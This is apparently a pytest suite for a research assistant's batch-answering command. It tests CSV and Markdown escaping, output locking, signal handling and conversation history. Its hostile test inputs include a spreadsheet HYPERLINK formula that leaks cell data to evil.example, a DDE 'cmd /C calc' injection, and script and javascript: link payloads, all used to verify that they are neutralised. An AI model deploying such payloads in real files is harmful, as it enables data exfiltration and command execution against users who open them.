"""`assistant batch`, round two: hostile text in every output format, the output lock, SIGTERM, conversations, and
the library/CLI split (the library returns a summary and prints nothing)."""

from __future__ import annotations

import csv
import io
import json
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from conftest import SEEDS, FakeEmbedder
from test_batch import KeyedGenerator, batch, fake_pipeline, jsonl

from assistant.batch.inputs import read_questions
from assistant.batch.outputs import BatchBusyError, csv_safe, lock_path, md_escape
from assistant.batch.runner import BatchSummary, answer_batch
from assistant.cli.main import main
from assistant.config import Settings

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1, "Click for sparse adapter results")',
    "+cmd|' /C calc'!A0 Sparse Mixture Routers for Tomato Farming",
    "-2+3 Negative Sampling Against Quantum Tomatoes",
    "@SUM(1+1) Attention Sinks in Greenhouse Sensors",
    "# Heading | with a pipe * and _emphasis_ in Tomato Adapters",
    "<script>alert(1)</script> [click](javascript:alert(1)) Tomato Ranking",
]
ABSTRACT = (
    "We study {t} on a greenhouse benchmark. The method improves tomato yield by 12 percent over the baseline. "
    "Results hold across three seasons and two tomato varieties."
)


@pytest.fixture(scope="module")
def hostile_index(tmp_path_factory) -> Path:
    from assistant.ingest.build import ingest

    d = tmp_path_factory.mktemp("hostile")
    corpus = d / "hostile.jsonl"
    corpus.write_text("\n".join(json.dumps({"title": t, "abstract": ABSTRACT.format(t=t)}) for t in HOSTILE_TITLES))
    ingest(Settings(data_dir=d / "data"), FakeEmbedder(), [corpus])
    return d / "data"


@pytest.fixture
def hostile(hostile_index, data_dir) -> list[str]:
    import shutil

    shutil.copytree(hostile_index, data_dir)
    return HOSTILE_TITLES


@pytest.fixture(scope="module")
def seed_index(tmp_path_factory) -> tuple[Path, list[str]]:
    from assistant.index.store import Store, papers_from_dump
    from assistant.ingest.build import ingest

    d = tmp_path_factory.mktemp("seeds") / "data"
    ingest(Settings(data_dir=d), FakeEmbedder(), [SEEDS])
    return d, sorted(p.title for p in papers_from_dump(Store(Settings(data_dir=d)).dump()).values())[:8]


@pytest.fixture
def titles(seed_index, data_dir) -> list[str]:
    import shutil

    shutil.copytree(seed_index[0], data_dir)
    return seed_index[1]


def hostile_questions(tmp_path: Path, titles: list[str]) -> Path:
    rows = [{"id": f"=id{n}", "question": t} for n, t in enumerate(titles)]
    rows += [
        {"id": "\tq-tab", "question": "@tomato adapters\r\n=1+1 | and <b>bold</b>"},
        {"id": "-minus", "question": "+what about | pipes\nand newlines?"},
    ]
    q = tmp_path / "hostile.jsonl"
    q.write_text("\n".join(json.dumps(r) for r in rows) + "\n")
    return q


# -- 2. hostile text in every format ------------------------------------------------------------------
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_csv_neutralises_formula_cells(tmp_path, hostile):
    q = hostile_questions(tmp_path, hostile)
    rc, _, err, gen = batch([str(q), "-o", str(tmp_path / "out.csv")])
    assert rc == 0, err
    assert gen.calls  # the hostile papers were retrieved and cited
    rows = list(csv.reader(open(tmp_path / "out.csv", newline="", encoding="utf-8")))
    assert len(rows) == 1 + len(hostile) + 2
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA), cell
    by_id = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
    assert by_id["'=id0"]["question"] == "'" + hostile[0]  # the text itself is kept, behind the quote
    assert by_id["'\tq-tab"]["question"].startswith("'@tomato")
    assert by_id["'-minus"]["question"] == "'+what about | pipes\nand newlines?"
    cited = "\n".join(r["citations"] for r in by_id.values())
    assert "=HYPERLINK" in cited  # inside a cell that starts with "[1] ", harmless


def test_csv_header_from_hostile_input_columns_is_neutralised(tmp_path, titles):
    q = tmp_path / "q.csv"
    q.write_text(f'id,question,=evil()\nx1,{titles[0]},"=2+2"\n')
    rc, _, _, _ = batch([str(q), "-o", str(tmp_path / "out.csv")])
    rows = list(csv.reader(open(tmp_path / "out.csv", newline="")))
    assert rc == 0 and rows[0][-1] == "'=evil()" and rows[1][-1] == "'=2+2"


def test_markdown_escapes_titles_questions_and_answers(tmp_path, hostile):
    q = hostile_questions(tmp_path, hostile)
    rc, _, err, _ = batch([str(q), "-o", str(tmp_path / "report.md")])
    assert rc == 0, err
    md = (tmp_path / "report.md").read_text()
    lines = md.splitlines()
    # only our own headings: the title line and one "## " per question, nothing from the input or the corpus
    assert [ln for ln in lines if ln.startswith("#")] == [lines[0]] + [ln for ln in lines if ln.startswith("## ")]
    assert len([ln for ln in lines if ln.startswith("## ")]) == len(hostile) + 2
    assert "<script>" not in md and "\\<script\\>" in md
    assert "[click](" not in md and "\\[click\\](javascript" in md
    assert not any(ln.startswith((">", "-", "+", "=", "|", "<")) for ln in lines if ln != "---")
    assert all("|" not in ln.replace("\\|", "") for ln in lines)  # no table can open
    assert "\\_emphasis\\_" in md and "and newlines?" in md  # newlines in a question became spaces


def test_jsonl_stays_exact(tmp_path, hostile):
    q = hostile_questions(tmp_path, hostile)
    rc, out, _, _ = batch([str(q)])
    rows = jsonl(out)
    assert rc == 0
    assert [r["id"] for r in rows][:2] == ["=id0", "=id1"]
    assert rows[-2]["question"] == "@tomato adapters\r\n=1+1 | and <b>bold</b>" and rows[-2]["id"] == "\tq-tab"
    titles = {c["title"] for r in rows for c in r["citations"]} | {s["title"] for r in rows for s in r["retrieved"]}
    assert set(hostile) <= titles  # exactly as indexed: no quote, no backslash


def test_escape_helpers():
    assert csv_safe("=1") == "'=1" and csv_safe("a=1") == "a=1" and csv_safe("") == ""
    assert md_escape("a | b\nc") == "a \\| b c"
    assert md_escape("1. one") == "1\\. one" and md_escape("# h") == "\\# h"


# -- 3. one batch per output file -------------------------------------------------------------------------
def test_second_batch_on_the_same_output_fails_at_once(tmp_path, titles, capsys, monkeypatch):
    q = tmp_path / "q.txt"
    q.write_text("\n".join(titles[:2]) + "\n")
    out = tmp_path / "out.jsonl"
    holder = subprocess.Popen(  # another process holds the lock, as a running batch would
        [
            sys.executable,
            "-c",
            "import sys; from filelock import FileLock; l = FileLock(sys.argv[1]); l.acquire(); "
            "print('locked', flush=True); sys.stdin.read()",
            str(lock_path(out)),
        ],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "locked"
        monkeypatch.setattr("assistant.answer.session.make_pipeline", lambda *a, **k: pytest.fail("model loaded"))
        t0 = time.perf_counter()
        rc = main(["batch", str(q), "-o", str(out)])
        err = capsys.readouterr().err
        assert rc == BatchBusyError.exit_code == 5 and time.perf_counter() - t0 < 5
        assert err.count("\n") == 1 and err.startswith("error: another batch is writing") and str(out) in err
        assert not out.exists()
    finally:
        holder.communicate("")
    rc, _, _, gen = batch([str(q), "-o", str(out)])  # released: the next run goes ahead
    assert rc == 0 and len(gen.calls) == 2 and len(jsonl(out.read_text())) == 2
    assert not lock_path(out).exists()  # no empty OUTPUT.lock left beside the answers


def test_lock_held_for_the_whole_run(tmp_path, titles):
    """A second run started while the first is answering is refused; the first finishes normally."""
    q = tmp_path / "q.txt"
    q.write_text("\n".join(titles[:3]) + "\n")
    out = tmp_path / "out.csv"
    seen: list[str] = []

    class Probe(KeyedGenerator):
        def stream(self, messages, max_tokens, cancel=None):
            if not seen:
                try:
                    batch([str(q), "-o", str(out)])
                except BatchBusyError as exc:
                    seen.append(str(exc))
            yield from super().stream(messages, max_tokens, cancel)

    rc, _, _, gen = batch([str(q), "-o", str(out)], generator=Probe())
    assert rc == 0 and len(gen.calls) == 3 and "another batch is writing" in seen[0]
    assert len(list(csv.DictReader(open(out, newline="")))) == 3


# -- 4. SIGTERM is an interruption like Ctrl-C --------------------------------------------------------------
class SignalOnSecond(KeyedGenerator):
    def __init__(self, signum):
        super().__init__()
        self.signum = signum

    def stream(self, messages, max_tokens, cancel=None):
        if len(self.calls) == 1:
            signal.raise_signal(self.signum)  # to this (main) thread, where the handler must run
            time.sleep(1)  # the handler runs in this (main) thread before the sleep ends
        yield from super().stream(messages, max_tokens, cancel)


@pytest.fixture
def ctrl_c():
    """Python's own Ctrl-C handler, as in a terminal. A process started in the background by a non-interactive
    shell inherits SIGINT ignored (POSIX), and then no KeyboardInterrupt ever comes: this test failed that way
    when the suite ran from `bash .ci/run &`."""
    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    yield
    signal.signal(signal.SIGINT, previous)


@pytest.mark.parametrize("signum,code", [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
def test_sigterm_prints_the_summary_and_resume_hint_like_sigint(
    tmp_path, titles, monkeypatch, capsys, signum, code, ctrl_c
):
    q = tmp_path / "q.txt"
    q.write_text("\n".join(titles[:4]) + "\n")
    out = tmp_path / "out.jsonl"
    gen = SignalOnSecond(signum)
    monkeypatch.setattr("assistant.answer.session.make_pipeline", lambda s: fake_pipeline(s, gen))
    before = signal.getsignal(signal.SIGTERM)
    rc = main(["batch", str(q), "-o", str(out)])
    err = capsys.readouterr().err
    assert rc == code
    assert "batch interrupted: 1 answered (0 abstained), 0 failed" in err
    assert "run the same command again to resume" in err and "Traceback" not in err
    assert len(jsonl(out.read_text())) == 1
    assert signal.getsignal(signal.SIGTERM) == before  # the handler is the batch's only while it runs
    monkeypatch.setattr("assistant.answer.session.make_pipeline", lambda s: fake_pipeline(s))
    assert main(["batch", str(q), "-o", str(out)]) == 0
    assert "resuming" in capsys.readouterr().err
    assert [r["question"] for r in jsonl(out.read_text())] == titles[:4]


# -- 8. the library returns, the command line prints ---------------------------------------------------------
def test_library_returns_a_summary_and_prints_nothing(tmp_path, titles, settings, capsys):
    items = read_questions("-", io.StringIO("\n".join(titles[:3]) + "\nWhat is the capital of France?\n"))
    out = tmp_path / "out.jsonl"
    started, written = [], []
    summary = answer_batch(
        settings,
        items,
        output=out,
        pipeline=fake_pipeline(settings, KeyedGenerator()),
        on_start=lambda done, todo: started.append((done, todo)),
        on_record=written.append,
    )
    assert capsys.readouterr() == ("", "")
    assert isinstance(summary, BatchSummary)
    assert (summary.total, summary.skipped, summary.answered, summary.abstained, summary.failed) == (4, 0, 4, 1, 0)
    assert started == [(0, 4)] and len(written) == 4 and not summary.interrupted
    assert summary.line().startswith("batch: 4 answered (1 abstained), 0 failed")
    again = answer_batch(settings, items, output=out, pipeline=fake_pipeline(settings))
    assert (again.skipped, again.answered) == (4, 0) and capsys.readouterr() == ("", "")


def test_library_refuses_a_missing_index_before_writing(tmp_path, data_dir):
    from assistant.errors import IndexMissingError

    items = read_questions("-", io.StringIO("a question\n"))
    with pytest.raises(IndexMissingError, match="assistant ingest"):
        answer_batch(Settings(data_dir=data_dir), items, output=tmp_path / "out.jsonl")
    assert sorted(p.name for p in tmp_path.iterdir()) == []


# -- 9. conversations ---------------------------------------------------------------------------------------
class Recording:
    """Wraps a pipeline: what each ask received (question, history questions or None), and overlap per conversation."""

    def __init__(self, pipeline, delay: float = 0.0):
        self.pipeline, self.delay = pipeline, delay
        self.retriever, self.generator = pipeline.retriever, pipeline.generator
        self.calls: list[tuple[str, list[str] | None]] = []
        self.histories: dict[str, list] = {}
        self.active: dict[str, int] = {}
        self.overlap = False
        self.lock = threading.Lock()

    def ask(self, question, *, cancel=None, history=None, **kw):
        with self.lock:
            self.calls.append((question, None if history is None else [h.question for h in history]))
            self.histories[question] = history
            key = (history[0].question if history else question)[:20]
            self.active[key] = self.active.get(key, 0) + 1
            self.overlap |= self.active[key] > 1
        try:
            time.sleep(self.delay)
            return self.pipeline.ask(question, cancel=cancel, history=history, **kw)
        finally:
            with self.lock:
                self.active[key] -= 1


def conversation_file(tmp_path: Path, titles: list[str]) -> Path:
    rows = [
        {"id": "a1", "conversation": "A", "question": titles[0]},
        {"id": "b1", "conversation": 7, "question": titles[1]},
        {"id": "solo", "question": titles[2]},
        {"id": "a2", "conversation": "A", "question": "What dataset did they use?"},
        {"id": "b2", "conversation": 7, "question": "What dataset did they use?"},
        {"id": "a3", "conversation": "A", "question": "And how large was it?"},
    ]
    q = tmp_path / "conv.jsonl"
    q.write_text("\n".join(json.dumps(r) for r in rows) + "\n")
    return q


def run_recorded(argv, settings_overrides=None, generator=None, delay=0.0, stdin=None):
    from assistant.cli.batch import run_batch
    from assistant.cli.main import build_parser, settings_from

    args = build_parser().parse_args(["batch", *argv])
    settings = settings_from(args)
    for k, v in (settings_overrides or {}).items():
        setattr(settings, k, v)
    rec = Recording(fake_pipeline(settings, generator or KeyedGenerator()), delay)
    out, err = io.StringIO(), io.StringIO()
    rc = run_batch(args, settings, rec, stdout=out, stderr=err)
    return rc, out.getvalue(), err.getvalue(), rec


def test_conversation_turns_get_the_earlier_answers_as_history(tmp_path, titles):
    q = conversation_file(tmp_path, titles)
    rc, out, err, rec = run_recorded([str(q)])
    assert rc == 0, err
    got = dict(rec.calls[i] for i in range(len(rec.calls)))
    assert rec.calls[0] == (titles[0], [])  # the first turn: a conversation, no history yet
    assert got[titles[2]] is None  # the independent row: no history at all
    assert [c for c in rec.calls if c[0] == "And how large was it?"] == [
        ("And how large was it?", [titles[0], "What dataset did they use?"])
    ]
    assert [c[1] for c in rec.calls if c[0] == "What dataset did they use?"] == [[titles[0]], [titles[1]]]
    rows = jsonl(out)
    assert [r["id"] for r in rows] == ["a1", "b1", "solo", "a2", "b2", "a3"]
    assert [r.get("conversation") for r in rows] == ["A", 7, None, "A", 7, "A"]
    assert rows[3]["id"] != rows[4]["id"]


def test_resume_rebuilds_the_history_from_the_journal(tmp_path, titles):
    q = conversation_file(tmp_path, titles)
    out = tmp_path / "out.jsonl"
    rc, _, _, _ = run_recorded([str(q), "-o", str(out)])
    full = jsonl(out.read_text())
    out.write_text("".join(json.dumps(r) + "\n" for r in full[:3]))  # killed after a1, b1, solo
    rc, _, err, rec = run_recorded([str(q), "-o", str(out)])
    assert rc == 0 and "3 of 6 questions already answered" in err
    assert [c for c in rec.calls] == [
        ("What dataset did they use?", [titles[0]]),
        ("What dataset did they use?", [titles[1]]),
        ("And how large was it?", [titles[0], "What dataset did they use?"]),
    ]
    rebuilt = rec.calls and rec.histories["And how large was it?"][0]
    assert rebuilt.text == full[0]["text"] and [c.paper_id for c in rebuilt.citations] == [
        c["paper_id"] for c in full[0]["citations"]
    ]
    assert [r["id"] for r in jsonl(out.read_text())] == [r["id"] for r in full]


def test_a_failed_turn_stops_its_conversation_and_a_rerun_retries_in_order(tmp_path, titles):
    q = conversation_file(tmp_path, titles)
    out = tmp_path / "out.jsonl"
    rc, _, _, rec = run_recorded([str(q), "-o", str(out)], generator=KeyedGenerator(fail_on=[titles[0]]))
    rows = {r["id"]: r for r in jsonl(out.read_text())}
    assert rc == 1 and rows["a1"]["error"] == "the model fell over"
    assert rows["a2"]["error"].startswith("not asked: the earlier turn a1 of conversation A failed")
    assert rows["a3"]["error"].startswith("not asked") and rows["b2"]["error"] is None
    assert [c[0] for c in rec.calls].count("And how large was it?") == 0
    rc, _, _, rec = run_recorded([str(q), "-o", str(out)])
    assert rc == 0 and [c[0] for c in rec.calls] == [titles[0], "What dataset did they use?", "And how large was it?"]
    assert rec.calls[2][1] == [titles[0], "What dataset did they use?"]


def test_conversations_with_concurrency(tmp_path, titles):
    rows = [{"id": f"c{n}", "conversation": "long", "question": q} for n, q in enumerate(titles[:4])]
    rows += [{"id": f"s{n}", "question": t} for n, t in enumerate(titles[4:8])]
    rows = [rows[0], rows[4], rows[1], rows[5], rows[2], rows[6], rows[3], rows[7]]
    q = tmp_path / "q.jsonl"
    q.write_text("\n".join(json.dumps(r) for r in rows) + "\n")
    rc, out, err, rec = run_recorded(
        [str(q), "--concurrency", "3"], {"llm_url": "http://127.0.0.1:9/v1"}, generator=KeyedGenerator(), delay=0.1
    )
    assert rc == 0, err
    assert [r["id"] for r in jsonl(out)] == [r["id"] for r in rows]  # input order
    assert not rec.overlap  # one conversation is never answered twice at once
    assert rec.histories[titles[3]] and [h.question for h in rec.histories[titles[3]]] == titles[:3]
    assert all(rec.histories[t] is None for t in titles[4:8])


def test_csv_conversation_column(tmp_path, titles):
    q = tmp_path / "q.csv"
    q.write_text(f"Conversation,question\nx,{titles[0]}\nx,What dataset did they use?\n,{titles[1]}\n")
    rc, out, _, rec = run_recorded([str(q)])
    assert rc == 0 and rec.calls[1] == ("What dataset did they use?", [titles[0]]) and rec.calls[2][1] is None
    assert [r["Conversation"] for r in jsonl(out)] == ["x", "x", ""]


def test_same_follow_up_in_two_conversations_is_two_questions():
    items = read_questions(
        "-",
        io.StringIO(
            '{"conversation": "a", "question": "and the data?"}\n{"conversation": "b", "question": "and the data?"}\n'
            '{"question": "and the data?"}\n{"conversation": ["bad"], "question": "q"}\n'
        ),
    )
    assert len({it.key for it in items[:3]}) == 3
    assert items[2].key == read_questions("-", io.StringIO("and the data?\n"))[0].key  # unchanged without one
    assert items[3].error == 'line 4: "conversation" must be a string or an integer'


def test_markdown_keeps_a_literature_answers_lines_and_shows_a_compare_table_escaped():
    from assistant.batch.outputs import MarkdownSink, md_lines

    assert md_lines('3 papers speak to this.\n\nSupports:\n- A: "x | y" [1]\n- B: "<b>" [2]') == (
        '3 papers speak to this.\n\nSupports:  \n\\- A: "x \\| y" \\[1\\]  \n\\- B: "\\<b\\>" \\[2\\]'
    )
    fh = io.StringIO()
    MarkdownSink(fh, "t").write(
        {
            "id": "q1",
            "question": "compare A and B",
            "text": 'Compared: [1] A; [2] B\n\nProblem:\n- [1] "p"',
            "table": {
                "aspects": ["problem", "method"],
                "rows": [[1, "A: a paper", ["p | q", "m"]], [2, "B <i>", ["", "*n*"]]],
                "differs": ["a", "b"],
            },
            "summary": "A is *older* [1].",
            "citations": [],
            "timings": {},
        }
    )
    lines = fh.getvalue().splitlines()
    table = [ln for ln in lines if ln.startswith("|")]
    assert table == [
        "| | \\[1\\] A | \\[2\\] B \\<i\\> |",
        "|---|---|---|",
        "| **problem** | p \\| q | — |",
        "| **method** | m | \\*n\\* |",
        "| **sets it apart** | a | b |",
    ]
    assert "Compared: \\[1\\] A; \\[2\\] B" in lines and not any(ln.startswith("Problem") for ln in lines)
    # the model's verified overview stays, escaped, between the lead and the table
    assert lines.index("A is \\*older\\* \\[1\\].") == lines.index("Compared: \\[1\\] A; \\[2\\] B") + 2
